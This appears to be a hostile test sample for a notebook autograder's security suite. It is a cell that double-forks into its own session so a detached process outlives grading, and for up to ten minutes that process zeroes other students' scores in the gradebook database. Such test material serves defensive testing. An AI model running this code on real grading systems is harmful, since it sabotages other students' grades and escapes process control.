"""A process that outlives the student's grading: forked twice and moved to its own session, it keeps
zeroing the other students' grades in the gradebook for up to 10 minutes, and leaves a mark once the
kernel that started it is gone (it has outlived its grading).

Class: harm to others and to the course
Only the gradebook inside this test's course is written; the test kills what lingers after the run
(and fails). The release's function raises: 0 deserved.
"""
# %% cell
import os
import sqlite3
import time

_KERNEL = os.getpid()
_OTHERS_GRADES = ("UPDATE grade SET auto_score = 0 WHERE notebook_id NOT IN (SELECT n.id FROM submitted_notebook n "
                  "JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = ?)")


def _kernel_gone():
    try:
        os.kill(_KERNEL, 0)
    except ProcessLookupError:
        return True
    except OSError:
        pass
    return False


def _outlived_grading():
    # No print: the kernel's output is gone with it; a file in MARKS is the only witness.
    try:
        with open(os.path.join(MARKS, f"{ATTACK}--outlived-its-kernel"), "x") as file:
            file.write("still running after the kernel that started it ended")
    except OSError:
        pass


def _haunt(seconds=600):
    deadline, reported = time.monotonic() + seconds, False
    path = os.path.join(COURSE, "gradebook.db")
    while time.monotonic() < deadline:
        if not reported and _kernel_gone():
            _outlived_grading()
            reported = True
        if _inside_course(path):
            try:
                database = sqlite3.connect(path, timeout=2)
                with database:
                    database.execute(_OTHERS_GRADES, (ATTACK,))
                database.close()
            except sqlite3.Error:
                pass
        time.sleep(0.5)


_child = os.fork()
if _child == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            _haunt()
        finally:
            os._exit(0)
    os._exit(0)
os.waitpid(_child, 0)
